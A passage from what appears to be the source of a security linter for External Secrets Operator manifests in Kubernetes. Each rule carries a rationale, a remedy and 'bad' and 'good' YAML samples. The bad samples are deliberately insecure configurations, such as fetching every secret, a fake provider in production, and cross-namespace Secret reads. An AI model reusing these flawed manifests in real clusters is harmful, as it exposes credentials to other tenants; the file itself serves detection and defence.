  namespaceSelector: projectcalico.org/name not in {'kube-system'}
  types: [Egress]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    metadata:
      labels: { app: external-secrets }
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  *check(workload, { eso, network, rbac }) {
    const component = eso.componentOf(workload);
    if (!component) return;
    const { namespace, serviceAccountName, specPath } = component.pod;
    const account = { kind: "ServiceAccount", name: serviceAccountName, namespace };
    const hasSecrets = hasEverywhere(account, SECRET_ACCESS, rbac);
    for (const direction of DIRECTIONS) {
      if (network.isolating(component.pod, direction).length > 0) continue;
      yield {
        path: specPath,
        missing: "networking.k8s.io/NetworkPolicy",
        discriminator: direction,
        severity: hasSecrets ? "high" : "medium",
        message: messageOf(component, direction, hasSecrets)
      };
    }
  },
  fix: () => unsafe(ADDRESSES, generated("network-policies"))
});
var ADDRESSES = "Does the operator need other addresses than those of the stores in this set, DNS and the API server? They are closed to it.";
function messageOf({ role, pod }, direction, hasSecrets) {
  const cause = sharesNodeNetwork(pod) ? `the ${role} shares the network of its node, where no policy selects it for ${direction}` : `no policy in the set selects the ${role} for ${direction}`;
  const open = direction === "ingress" ? "any pod of the cluster can connect to it" : "it can connect to any address";
  return `${cause}: ${open}${hasSecrets ? ", and it has rights to the Secrets of all namespaces" : ""}`;
}

// src/check/forbidden-namespace.ts
import { posix } from "node:path";
function* forbiddenNamespaces(manifest, world, allowed) {
  for (const { name, path } of targetNamespaces(manifest, world)) {
    const where = `it works in namespace ${name}`;
    if (allowed?.includes(name)) continue;
    if (allowed && !allowed.some((glob) => posix.matchesGlob(name, glob)))
      yield { path, discriminator: name, message: `${where}, which is not among the allowed namespaces` };
    else if (world.isSensitiveNamespace(name))
      yield {
        path,
        discriminator: name,
        message: `${where}, whose Secrets ${world.eso.isOwnNamespace(name) ? "are the operator’s own" : "are the cluster’s own"}`,
        ...world.config.sensitiveNamespaces === void 0 && { severity: "low" }
      };
  }
}

// src/rules/external-secret-in-forbidden-namespace.ts
var external_secret_in_forbidden_namespace_default = defineRule({
  id: "external-secret-in-forbidden-namespace",
  title: "An ExternalSecret works in a namespace that should have none",
  severities: ["high", "low"],
  kinds: FETCHING_KINDS,
  why: "An ExternalSecret writes Secrets beside those that are there already. Where the cluster or the operator keeps its own, whoever writes the ExternalSecret can replace a credential that everything depends on, or bring a copy of another team’s secret to a place it is not meant for.",
  remedy: "Move it to the namespace of the workload that uses the Secret. If it belongs here, name the namespace under `allowedNamespaces.externalSecret` in this tool’s config; `sensitiveNamespaces` says which namespaces count as the cluster’s own.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://external-secrets.io/latest/guides/threat-model/"
  ],
  guide: ["TM3", "AC2"],
  bad: [
    `
# config: { allowedNamespaces: { externalSecret: [shop, team-*] } }
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata:
  name: database
  namespace: billing # finding: it works in namespace billing, which is not among the allowed namespaces
spec:
  data: [{ secretKey: password, remoteRef: { key: database } }]
---
# What the list takes in by a star is still sensitive.
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: everywhere }
spec:
  namespaces:
    - shop
    - team-a
    - kube-public # finding: it works in namespace kube-public, which is not among
  externalSecretSpec:
    data: [{ secretKey: password, remoteRef: { key: database } }]
`,
    `
# config: { sensitiveNamespaces: [vault] }
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata:
  name: unseal
  namespace: vault # finding: it works in namespace vault, whose Secrets are the cluster’s own
spec:
  data: [{ secretKey: key, remoteRef: { key: unseal } }]
`,
    `
# Without a config: the namespaces of Kubernetes and of the operator.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata:
  name: credentials
  namespace: eso # finding[low]: it works in namespace eso, whose Secrets are the operator’s own
spec:
  data: [{ secretKey: token, remoteRef: { key: token } }]
---
apiVersion: v1
kind: Namespace
metadata: { name: kube-system, labels: { team: platform } }
---
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: by-label }
spec:
  namespaceSelectors:
    - matchLabels: { team: platform } # finding[low]: it works in namespace kube-system, whose Secrets are the cluster’s own
    - matchExpressions: # finding[low]: it works in namespace kube-public
        - { key: kubernetes.io/metadata.name, operator: In, values: [kube-public, shop] }
  externalSecretSpec:
    data: [{ secretKey: token, remoteRef: { key: token } }]
`
  ],
  good: [
    `
# config: { allowedNamespaces: { externalSecret: [kube-system, team-*] }, sensitiveNamespaces: [kube-system] }
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: allowed-by-name, namespace: kube-system }
spec:
  data: [{ secretKey: token, remoteRef: { key: token } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: allowed-by-pattern, namespace: team-a }
spec:
  data: [{ secretKey: token, remoteRef: { key: token } }]
---
# Where it will be is filled in later.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: somewhere }
spec:
  data: [{ secretKey: token, remoteRef: { key: token } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: placeholder, namespace: "\${NAMESPACE}" }
spec:
  data: [{ secretKey: token, remoteRef: { key: token } }]
`,
    `
# The config knows better which namespaces are sensitive.
# config: { sensitiveNamespaces: [vault] }
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: system, namespace: kube-system }
spec:
  data: [{ secretKey: token, remoteRef: { key: token } }]
`
  ],
  check: (manifest, world) => forbiddenNamespaces(manifest, world, world.config.allowedNamespaces?.externalSecret)
});

// src/rules/fake-provider.ts
var fake_provider_default = defineRule({
  id: "fake-provider",
  title: "A store or generator outside of tests hands out values from its own manifest",
  severities: ["high"],
  kinds: kindsWith((connection) => connection === fake_default),
  needs: ["connections"],
  why: "The fake provider is made for tests: it answers with what stands in the store. Whatever a workload gets from it as a password is readable in the repository, the same everywhere, and known to everybody with the view role.",
  remedy: "Use a real provider, or the generators Password, SSHKey or UUID where a random value will do. If it is there for tests, move it to a folder named test, tests, e2e, example, examples, ci, fixtures or testdata.",
  references: [
    "https://external-secrets.io/latest/provider/fake/",
    "https://external-secrets.io/latest/api/generator/fake/"
  ],
  guide: ["AC1"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: fake, namespace: shop }
spec:
  provider:
    fake: # finding: what it hands out stands in this manifest
      data: [{ key: database, value: of-the-example }]
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: fake }
spec:
  provider:
    fake: {} # finding: what it hands out stands in this manifest
`,
    `
apiVersion: generators.external-secrets.io/v1alpha1
kind: Fake
metadata: { name: fake, namespace: shop }
spec: # finding: what it hands out stands in this manifest
  data: { password: of-the-example }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: fake, namespace: shop }
spec:
  provider:
    vault: { server: "https://vault.example.com" }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: Password
metadata: { name: fake, namespace: shop }
spec: { length: 42, allowRepeat: true, noUpper: false }
`
  ],
  *check(manifest) {
    const connected = connectedOf(manifest);
    if (!connected?.known || !FAKES.includes(connected.known) || isTestPath(manifest.file)) return;
    yield {
      path: connected.path,
      message: "what it hands out stands in this manifest, and this is no folder for tests"
    };
  }
});
var FAKES = [fake_default2, fake_default];

// src/rules/fetch-all-secrets.ts
var fetch_all_secrets_default = defineRule({
  id: "fetch-all-secrets",
  title: "An ExternalSecret fetches every secret that its store can see",
  severities: ["high"],
  kinds: FETCHING_KINDS,
  why: "One Secret holds everything that the store’s credential reads, also what is added to the provider later and is meant for somebody else. Whoever reads that Secret, or a pod that mounts it, has it all.",
  remedy: "Name the secrets under `data` or `dataFrom[].extract`, or narrow `find` by `path`, by `tags`, or by a `name.regexp` that begins with the application’s own prefix.",
  references: [
    "https://external-secrets.io/latest/guides/getallsecrets/",
    "https://external-secrets.io/latest/api/externalsecret/"
  ],
  guide: ["TM3"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: everything, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: vault }
  dataFrom:
    - find:
        name:
          regexp: .* # finding: every secret that ClusterSecretStore vault can see is fetched
    - find: # finding: every secret that SecretStore aws can see is fetched
        path: /
      sourceRef:
        storeRef: { name: aws }
    - find: # finding: every secret that the store can see is fetched, for it has no name, path or tags
        tags: {}
      sourceRef:
        storeRef: { kind: ClusterSecretStore }
    - find: # finding: it has no name, path or tags
        conversionStrategy: Default
`,
    `
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: everything }
spec:
  externalSecretSpec:
    secretStoreRef: { kind: ClusterSecretStore, name: vault }
    dataFrom:
      - find:
          name: { regexp: '\\A(?:.+)\\z' } # finding: the expression \\A(?:.+)\\z takes every name
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: own, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: vault }
  dataFrom:
    - extract: { key: shop/database }
    - find: { path: shop, name: { regexp: .* } }
    - find: { name: { regexp: ^shop- } }
    - find: { tags: { team: shop } }
    - find: { name: { regexp: "\${PATTERN}" } }
    - find: { path: "\${FOLDER}" }
    - find: { tags: "\${TAGS}" }
    - find: { name: "\${NAME}" }
    - find: { name: { regexp: 7 } }
`
  ],
  *check(manifest) {
    for (const item of itemsOf(manifest)) {
      const fault = item.how === "find" ? faultOf(item) : void 0;
      if (!fault) continue;
      const { kind, name } = item.store ?? {};
      const store = kind && name ? `${kind} ${name}` : "the store";
      yield {
        path: [...item.path, "find", ...fault.at],
        message: `every secret that ${store} can see is fetched, for ${fault.because}`
      };
    }
  }
});
function faultOf({ body }) {
  const find = asMapping(body.find);
  if (!find || isNarrowed(find.path) || Object.keys(asMapping(find.tags) ?? {}).length > 0) return void 0;
  if (isPlaceholder(find.tags) || isPlaceholder(find.name)) return void 0;
  const pattern = asMapping(find.name)?.regexp ?? "";
  if (pattern === "") return { at: [], because: "it has no name, path or tags" };
  const text = asText(pattern);
  if (text === void 0 || isPlaceholder(text) || !matchesEverything(text)) return void 0;
  return { at: ["name", "regexp"], because: `the expression ${text} takes every name` };
}
var isNarrowed = (path) => isPlaceholder(path) || !/^[/.]*$/.test(asText(path) ?? "");

// src/rules/foreign-ca-provider.ts
var foreign_ca_provider_default = defineRule({
  id: "foreign-ca-provider",
  title: "A store takes its certificate authority from another namespace",
  severities: ["high", "medium"],
  kinds: STORE_KINDS,
  why: "The operator reads the named ConfigMap or Secret with its own rights. Before version 2.4.0 a SecretStore could so make it read an object of any namespace (CVE-2026-42875); and whoever owns that object decides which server the store believes.",
  remedy: "Keep the authority in the namespace of the SecretStore and leave `caProvider.namespace` out. A ClusterSecretStore has to name a namespace: let it be that of its credential, and list under `conditions` who may use the store.",
  references: [
    "https://github.com/advisories/GHSA-wv26-88m5-6h59",
    "https://external-secrets.io/latest/provider/hashicorp-vault/"
  ],
  guide: ["NI3", "NS3"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.vault.svc:8200
      caProvider:
        type: ConfigMap
        name: vault-ca
        key: ca.crt
        namespace: vault # finding: caProvider names vault-ca in namespace vault, not the store's own
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  provider:
    vault:
      server: https://vault.vault.svc:8200
      caProvider: { type: Secret, name: vault-ca, key: ca.crt, namespace: vault } # finding[medium]: and every namespace can use the store
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop, namespace: eso } } }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.vault.svc:8200
      caProvider: { type: ConfigMap, name: vault-ca, key: ca.crt, namespace: shop }
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  conditions: [{ namespaces: [shop] }]
  provider:
    vault:
      server: https://vault.vault.svc:8200
      caProvider: { type: ConfigMap, name: vault-ca, key: ca.crt, namespace: vault }
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop, namespace: eso } } }
`,
    `
# A ClusterSecretStore must name a namespace: here that of its credential, and a ConfigMap that Kubernetes keeps in all.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: vault }
spec:
  provider:
    vault:
      server: https://vault.vault.svc:8200
      caProvider: { type: ConfigMap, name: vault-ca, key: ca.crt, namespace: eso }
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop, namespace: eso } } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: gateway }
spec:
  provider:
    kubernetes:
      remoteNamespace: gateway
      server: { caProvider: { type: ConfigMap, name: kube-root-ca.crt, key: ca.crt, namespace: kube-system } }
      auth: { serviceAccount: { name: shop, namespace: eso } }
`
  ],
  *check(store) {
    const isCluster = store.kind === "ClusterSecretStore";
    if (isCluster ? !isUnconditional(store) : store.namespace === void 0) return;
    const references = namespacedReferences(store);
    for (const { path, field, namespace, name, isAuthority } of references) {
      const isOwn = isCluster ? name === CLUSTER_AUTHORITY || holdsCredential2(namespace, references) : namespace === store.namespace;
      if (!isAuthority || isOwn) continue;
      const what = `${field} names ${name ?? "an object"} in namespace ${namespace}`;
      yield isCluster ? { path, severity: "medium", message: `${what}, and every namespace can use the store` } : { path, message: `${what}, not the store's own` };
    }
  },
  fix: ({ manifest, path }) => manifest?.kind === "SecretStore" ? unsafe(COPY2, without(path)) : void 0
});
var COPY2 = "Is the certificate authority in the store's own namespace, too, under the same name?";
var CLUSTER_AUTHORITY = "kube-root-ca.crt";
var holdsCredential2 = (namespace, references) => references.some((reference) => !reference.isAuthority && reference.namespace === namespace);

// src/rules/foreign-namespace-read.ts
var foreign_namespace_read_default = defineRule({
  id: "foreign-namespace-read",
  title: "A store reads the Secrets of another namespace",
  severities: ["medium", "high"],
  kinds: STORE_KINDS,
  needs: ["stores"],
  why: "The store turns Secrets of a namespace into something that people elsewhere may ask for. With a ClusterSecretStore that every namespace can use, whoever may create an ExternalSecret anywhere copies each Secret that the ServiceAccount of the store may read, without any right in that namespace; a PushSecret writes there as well.",
  remedy: "Let `remoteNamespace` name the namespace of the store itself, with a SecretStore for each namespace; or give the ServiceAccount of the store a Role with `resourceNames` for the Secrets that are meant, and list the namespaces that may have them under `spec.conditions`. The owners of the other namespace decide on that Role.",
  references: [
    "https://external-secrets.io/latest/provider/kubernetes/",
    "https://external-secrets.io/latest/guides/multi-tenancy/"
  ],
  guide: ["NI3", "TM6"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: open }
spec:
  provider:
    kubernetes:
      remoteNamespace: payments # finding[high]: whoever may create an ExternalSecret in any namespace gets Secrets of namespace payments
      auth: { serviceAccount: { name: reader, namespace: payments } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: limited }
spec:
  conditions: [{ namespaces: [shop, payments] }]
  provider:
    kubernetes:
      remoteNamespace: payments # finding: it hands out Secrets of namespace payments to other namespaces
      server: { url: "https://kubernetes.default.svc" }
      auth: { serviceAccount: { name: reader, namespace: payments } }
---
# Whoever uses it needs a ServiceAccount of their own that may read there.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: referent }
spec:
  provider:
    kubernetes:
      remoteNamespace: payments # finding: it hands out Secrets of namespace payments to other namespaces
      auth: { serviceAccount: { name: reader } }
`,
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: neighbour, namespace: shop }
spec:
  provider:
    kubernetes:
      remoteNamespace: payments # finding: it hands out Secrets of namespace payments in namespace shop
      auth: { serviceAccount: { name: reader } }
`
  ],
  good: [
    `
# Its own namespace, or one that nobody else is admitted to.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own, namespace: shop }
spec:
  provider:
    kubernetes:
      remoteNamespace: shop
      auth: { serviceAccount: { name: reader } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: for-itself }
spec:
  conditions:
    - namespaces: [payments]
      namespaceSelector: { matchLabels: { kubernetes.io/metadata.name: payments } }
    - namespaceRegexes: [^payments$]
  provider:
    kubernetes:
      remoteNamespace: payments
      auth: { serviceAccount: { name: reader, namespace: payments } }
`,
    `
# By cleartext, and by a name that only looks like the cluster's own.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own-cluster, namespace: payments }
spec:
  provider:
    kubernetes:
      remoteNamespace: payments
      server: { url: "http://kubernetes.default.svc" }
      auth: { serviceAccount: { name: reader } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: namesake, namespace: shop }
spec:
  provider:
    kubernetes:
      remoteNamespace: payments
      server: { url: "https://hub.example.com/https://kubernetes.default" }
      auth: { serviceAccount: { name: reader } }
`,
    `
# Another cluster has namespaces of its own.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: other-cluster, namespace: shop }
spec:
  provider:
    kubernetes:
      remoteNamespace: payments
      server: { url: "https://k8s.example.com:6443" }
      auth: { token: { bearerToken: { name: token, key: token } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: by-kubeconfig, namespace: shop }
spec:
  provider:
    kubernetes:
      remoteNamespace: payments
      authRef: { name: kubeconfig, key: config }
---
# What is filled in later is unknown.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: later }
spec:
  provider:
    kubernetes:
      remoteNamespace: \${NAMESPACE}
      auth: { serviceAccount: { name: reader, namespace: eso } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: unplaced }
spec:
  provider:
    kubernetes:
      remoteNamespace: payments
      auth: { serviceAccount: { name: reader } }
`
  ],
  *check(store) {
    const provider = providerOf(store);
    const foreign2 = provider && foreignNamespaceIn(provider);
    if (!foreign2 || isPlaceholder(foreign2.namespace)) return;
    const problem = store.kind === "ClusterSecretStore" ? ofCluster : ofNamespace;
    yield* problem(store, provider, foreign2.namespace, foreign2.path);
  }
});
var ofCluster = (store, provider, namespace, path) => {
  const isShared = namespacedReferences(store).some(({ isAuthority }) => !isAuthority);
  if (isShared && isOpenToAll(store)) {
    const message = `whoever may create an ExternalSecret in any namespace gets Secrets of namespace ${namespace}`;
    return [{ path, severity: "high", message }];
  }
  if (isOnlyFor(store, namespace) || isElsewhere(provider)) return [];
  return [{ path, message: `it hands out Secrets of namespace ${namespace} to other namespaces` }];
};
var ofNamespace = (store, provider, namespace, path) => {
  const own = store.namespace;
  if (own === void 0 || isPlaceholder(own) || own === namespace || isElsewhere(provider)) return [];
  return [{ path, message: `it hands out Secrets of namespace ${namespace} in namespace ${own}` }];
};
function isElsewhere({ config }) {
  const url = asText(valueAt(config, ["server", "url"])) || OWN_SERVER;
  return config.authRef !== void 0 || !url.replace(/^https?:\/\//, "").startsWith(OWN_SERVER);
}
var OWN_SERVER = "kubernetes.default";

// src/model/pods/disruption.ts
function replicasOf(deployment) {
  const replicas = deployment.get("spec", "replicas") ?? 1;
  return typeof replicas === "number" ? replicas : void 0;
}
var hasDisruptionBudget = (pod, world) => world.of("policy/PodDisruptionBudget").some(
  (budget) => inSameNamespace(budget, pod.manifest) && (isPlaceholder(budget.get("spec", "selector")) || selects(budget.get("spec", "selector"), pod.labels))
);

// src/model/pods/flags.ts
var SWITCH = /^(?:enable-|unsafe-|experimental-|metrics-(?:secure|auth)$)/;
var flagsOf = (component) => new Map(flagsGiven(component));
function flagsGiven({ pod, container }) {
  const words = ["command", "args"].flatMap((list) => {
    const path = [...container.path, list];
    return asList(pod.manifest.get(...path)).map((word, i) => ({ text: asText(word) ?? "", path: [...path, i] }));
  });
  const end = words.findIndex(({ text }) => text === "--");
  return words.flatMap(({ text, path }, i) => {
    const [, name, value] = FLAG.exec(text) ?? [];
    if (name === void 0 || end >= 0 && i > end) return [];
    const next = words[i + 1]?.text;
    const takesNext = next !== void 0 && !next.startsWith("-") && !SWITCH.test(name);
    return [[name, { value: value ?? (takesNext ? next : "true"), path }]];
  });
}
var FLAG = /^--([\w.-]+)(?:=(.*))?$/s;
function isOn(flags, name, fallback) {
  const value = flags.get(name)?.value.toLowerCase() ?? "";
  if (YES.has(value)) return true;
  return NO.has(value) ? false : fallback;
}
var YES = /* @__PURE__ */ new Set(["1", "t", "true"]);
var NO = /* @__PURE__ */ new Set(["0", "f", "false"]);

// src/rules/fragile-admission-webhook.ts
var fragile_admission_webhook_default = defineRule({
  id: "fragile-admission-webhook",
  title: "A part of the operator that others wait for is easily interrupted",
  severities: ["low"],
  kinds: ["apps/Deployment"],
  why: "While a webhook with `failurePolicy: Fail` does not answer, nobody can write or delete a store or an ExternalSecret, and the pressure grows to switch it to `Ignore`. Several controllers without leader election all do the same work, overwrite one another and use up the limits of the provider.",
  remedy: "Set `webhook.replicaCount: 2` and `webhook.podDisruptionBudget.enabled: true` in the operator chart, and `leaderElect: true` where `replicaCount` or `certController.replicaCount` is above one.",
  references: [
    "https://kubernetes.io/docs/reference/access-authn-authz/extensible-admission-controllers/#failure-policy",
    "https://kubernetes.io/docs/tasks/run-application/configure-pdb/",
    "https://external-secrets.io/latest/api/controller-options/"
  ],
  guide: ["AC1"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  replicas: 1 # finding: the webhook must answer before stores and ExternalSecrets are written, and it runs once, without a disruption budget
  template:
    metadata:
      labels: { app: webhook }
    spec:
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [webhook] }
---
# Fail is what Kubernetes takes where nothing is said.
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: secretstore-validate }
webhooks:
  - name: validate.secretstore.external-secrets.io
    rules:
      - { apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secretstores] }
---
# A budget for other pods.
apiVersion: policy/v1
kind: PodDisruptionBudget
metadata: { name: controller, namespace: eso }
spec:
  minAvailable: 1
  selector:
    matchLabels: { app: controller }
`,
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  replicas: 2 # finding: 2 pods of the controller run side by side without leader election
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: ["--enable-leader-election=false"] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: other }
spec:
  replicas: 3 # finding: 3 pods of the controller run side by side without leader election
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  replicas: 2
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: ["--enable-leader-election=true"] }
---
# One pod, with a budget that keeps a drain of its node from taking it away.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    metadata:
      labels: { app: webhook }
    spec:
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [webhook] }
---
apiVersion: policy/v1
kind: PodDisruptionBudget
metadata: { name: webhook, namespace: eso }
spec:
  minAvailable: 1
  selector:
    matchLabels: { app: webhook }
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: secretstore-validate }
webhooks:
  - name: validate.secretstore.external-secrets.io
    rules:
      - { apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secretstores] }
    failurePolicy: Fail
`,
    `
# Several webhooks need no budget to be there, and one controller needs no election.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  replicas: 2
  template:
    spec:
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [webhook] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  replicas: 1
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: secretstore-validate }
webhooks:
  - name: validate.secretstore.external-secrets.io
    rules:
      - { apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secretstores] }
`,
    `
# Nobody waits for a webhook that may be passed over.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  replicas: 1
  template:
    spec:
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [webhook] }
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: secretstore-validate }
webhooks:
  - name: validate.secretstore.external-secrets.io
    rules:
      - { apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secretstores] }
    failurePolicy: Ignore
`,
    `
# Several webhooks need no leader, and one that may be passed over holds nobody up.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  replicas: 3
  template:
    spec:
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [webhook] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: other-webhook, namespace: eso }
spec:
  replicas: "\${REPLICAS}"
  template:
    spec:
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: [webhook] }
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: secretstore-validate }
webhooks:
  - name: validate.secretstore.external-secrets.io
    rules:
      - { apiGroups: [external-secrets.io], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secretstores] }
    failurePolicy: Ignore
`
  ],
  *check(deployment, world) {
    const component = world.eso.componentOf(deployment);
    const replicas = replicasOf(deployment);
    if (!component || replicas === void 0) return;
    const path = ["spec", "replicas"];
    if (component.role === "webhook") {
      const isNeeded = world.eso.webhooks.some(
        ({ manifest, failurePolicy }) => manifest.release?.name === deployment.release?.name && (failurePolicy ?? "Fail") === "Fail"
      );
      if (isNeeded && replicas === 1 && !hasDisruptionBudget(component.pod, world))
        yield {
          path,
          message: "the webhook must answer before stores and ExternalSecrets are written, and it runs once, without a disruption budget"
        };
    } else if (replicas > 1 && !isOn(flagsOf(component), "enable-leader-election", false))
      yield { path, message: `${replicas} pods of the ${component.role} run side by side without leader election` };
  },
  fix(fault) {
    const role = fault.manifest && fault.world.eso.componentOf(fault.manifest)?.role;
    if (role === "controller") return safe(chartValues(fault, { leaderElect: true }));
    if (role !== "webhook") return void 0;
    return fault.manifest?.template === void 0 ? safe(setting(fault.path, 2)) : safe(chartValues(fault, { "webhook.replicaCount": 2 }));
  }
});

// src/model/eso/targets.ts
var REPLACING_POLICIES = ["Owner", "Orphan"];
function targetOf(manifest) {
  const spec = FETCHING_KINDS.includes(manifest.groupKind) ? specPathOf(manifest) : void 0;
  if (!spec || isPlaceholder(manifest.get(...spec, "target"))) return void 0;
  const path = [...spec, "target"];
  const generic = manifest.get(...path, "manifest") ?? void 0;
  return {
    path,
    kind: generic === void 0 ? "Secret" : knownText(asMapping(generic)?.kind),
    apiVersion: generic === void 0 ? "v1" : knownText(asMapping(generic)?.apiVersion),
    name: knownText(manifest.get(...path, "name") || ownName(manifest)),
    creationPolicy: knownText(manifest.get(...path, "creationPolicy") ?? "Owner")
  };
}
var ownName = (manifest) => manifest.kind === "ClusterExternalSecret" && manifest.get("spec", "externalSecretName") || manifest.name;
var isSecret = ({ kind, apiVersion }) => kind === "Secret" && apiVersion === "v1";

// src/rules/generic-target.ts
var generic_target_default = defineRule({
  id: "generic-target",
  title: "An ExternalSecret writes secret data into something other than a Secret",
  severities: ["medium"],
  kinds: FETCHING_KINDS,
  why: "Only Secrets are kept apart by the usual roles, by encryption at rest and by the audit policy. In a ConfigMap or a custom resource the same value is plain text for everybody who may read that kind, and the operator needs the right to change all of them.",
  remedy: "Let the ExternalSecret write a Secret and refer to it from the other object. Where its kind can hold no reference, encrypt it at rest and narrow who may read it, and keep `genericTargets.resources` of the operator chart to that kind.",
  references: [
    "https://external-secrets.io/latest/guides/targeting-custom-resources/",
    "https://kubernetes.io/docs/tasks/administer-cluster/encrypt-data/"
  ],
  guide: ["AC3"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: settings, namespace: shop }
spec:
  target:
    manifest: # finding: secret data is written into ConfigMap settings, which is not kept like a Secret
      apiVersion: v1
      kind: ConfigMap
  data: [{ secretKey: password, remoteRef: { key: database } }]
---
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: settings }
spec:
  externalSecretSpec:
    target:
      name: shop
      manifest: { apiVersion: argoproj.io/v1alpha1, kind: Application } # finding: secret data is written into Application shop
    data: [{ secretKey: password, remoteRef: { key: database } }]
`
